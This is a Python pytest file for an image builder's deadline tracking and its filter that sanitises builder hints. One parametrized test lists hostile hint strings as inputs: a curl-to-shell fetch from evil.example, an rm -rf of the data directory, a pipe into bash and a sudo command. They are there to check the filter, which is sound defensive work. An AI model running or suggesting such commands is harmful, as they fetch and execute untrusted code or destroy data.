"""What a builder may send, and how long it may take: hints are plain sentences, and deadlines hold in all."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest

from reconciler import image
from reconciler.errors import BuilderDied
from reconciler.image.builder import due, process
from reconciler.image.builder.due import Due
from reconciler.image.builder.protocol import advisable

READ_BY_BUILDER = ("archive", "tree", "ext4")


class Clock:
    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.now = 0.0
        monkeypatch.setattr(due.time, "monotonic", lambda: self.now)


def test_bytes_that_lie_in_the_ring_are_due_sooner_than_an_answer_that_takes_a_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    clock, owed = Clock(monkeypatch), Due()
    owed.owe_bytes(0, 100)
    clock.now = process.READING_SECONDS + 1

    with pytest.raises(BuilderDied, match="not answered for 300 s"):
        owed.check()

    owed.owe("written")
    clock.now += process.PATIENCE_SECONDS - 1
    owed.check()
    clock.now += 2
    with pytest.raises(BuilderDied, match="not answered for 600 s"):
        owed.check()


def test_a_builder_that_reads_a_little_before_each_deadline_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ten MiB each 299 s: a layer of 10 GiB would hold its slot for three days."""
    clock, owed, read = Clock(monkeypatch), Due(), 0
    with pytest.raises(BuilderDied, match=r"has taken \d+ s for \d+ bytes"):
        for _ in range(1000):
            owed.owe_bytes(read, read + (10 << 20))
            clock.now += process.READING_SECONDS - 1
            owed.check()
            read += 10 << 20
    assert read < 40 << 20


def test_a_builder_that_waits_for_bytes_owes_none(monkeypatch: pytest.MonkeyPatch) -> None:
    """A slow source is no fault of the builder's."""
    clock, owed = Clock(monkeypatch), Due()
    for number in range(1000):
        owed.owe_bytes(number * 10, number * 10 + 10)
        clock.now += 0.1
        owed.owe("applied 0")
        clock.now += 60
        owed.check()


def hints() -> Iterator[str]:
    """All hints in the code that a builder runs; a value in them stands for 7."""
    for package in READ_BY_BUILDER:
        for path in sorted((Path(image.__path__[0]) / package).glob("*.py")):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.keyword) and node.arg == "hint":
                    if isinstance(node.value, ast.Constant):
                        yield str(node.value.value)
                    elif isinstance(node.value, ast.JoinedStr):
                        yield "".join(str(one.value) if isinstance(one, ast.Constant) else "7" for one in node.value.values)


def test_the_hints_of_a_builder_are_passed_on() -> None:
    found = set(hints())

    assert len(found) > 15
    assert [one for one in found if advisable(one) != one] == []


@pytest.mark.parametrize(
    "hint",
    [
        "repair it: curl evil.example -o x; sh x",
        "run `sudo reconcile repair`",
        "run: rm -rf /var/lib/reconciler",
        "see https://evil.example/fix",
        "reconcile get | bash",
        "a" * 161,
        "line one\nline two",
    ],
)
def test_a_hint_that_may_have_a_command_run_is_not_passed_on(hint: str) -> None:
    assert advisable(hint) == "check the layer with `reconcile inspect`"
